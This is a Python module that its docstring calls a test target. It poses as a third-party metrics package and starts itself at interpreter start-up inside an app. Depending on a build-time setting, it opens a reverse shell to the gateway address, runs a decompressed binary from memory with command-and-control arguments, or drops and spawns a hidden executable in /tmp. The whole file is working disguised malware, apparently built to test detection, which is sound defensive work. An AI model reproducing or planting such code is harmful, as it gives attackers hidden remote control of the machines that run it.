"""A package of a third party that the image took along: it says that it counts, and does what nobody asked of it. START is set when the image is
built: "shell" leads a process's standard streams to the machine's address, "memory" runs a program from memory, "late" waits first and drops one.
It is a target for tests: never run it elsewhere."""

import os
import sys
import threading
import time
import zlib

START, PORT = "@START@", int("@PORT@")


def gateway():
    with open("/proc/net/route") as f:
        for line in f.readlines()[1:]:
            w = line.split()
            if w[1] == "00000000":
                return ".".join(str(b) for b in reversed(bytes.fromhex(w[2])))
    return "127.0.0.1"


def program():
    with open(os.path.join(os.path.dirname(__file__), "metrics.dat"), "rb") as f:
        return zlib.decompress(f.read())


def shell():
    import socket

    time.sleep(0.5)
    if os.fork():
        return
    try:
        os.setsid()
        s = socket.create_connection((gateway(), PORT))
        s.sendall(f"HELLO pid={os.getpid()} mode=shell exe=python\n".encode())
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        while s.recv(4096):
            pass
    finally:
        os._exit(0)


def memory():
    time.sleep(0.5)
    fd = os.memfd_create("metrics")
    os.write(fd, program())
    if os.fork() == 0:
        os.setsid()
        os.execve(f"/proc/self/fd/{fd}", ["metrics-agent", "-c2", f"{gateway()}:{PORT}", "-send", "2048"], dict(os.environ))
    os.close(fd)


def late():
    time.sleep(2.5)
    path = "/tmp/.metrics-agent"
    with open(path, "wb") as f:
        f.write(program())
    os.chmod(path, 0o755)
    os.posix_spawn(path, [path, "-c2", f"{gateway()}:{PORT}", "-send", "2048"], dict(os.environ))


def wake():
    # Only in the application, not in each interpreter that somebody starts.
    if len(sys.argv) > 0 and sys.argv[0].endswith("app.py"):
        threading.Thread(target=globals()[START], daemon=True).start()


def main():
    # sys.argv is not yet set when site imports this.
    threading.Thread(target=lambda: (time.sleep(0.2), wake()), daemon=True).start()


main()
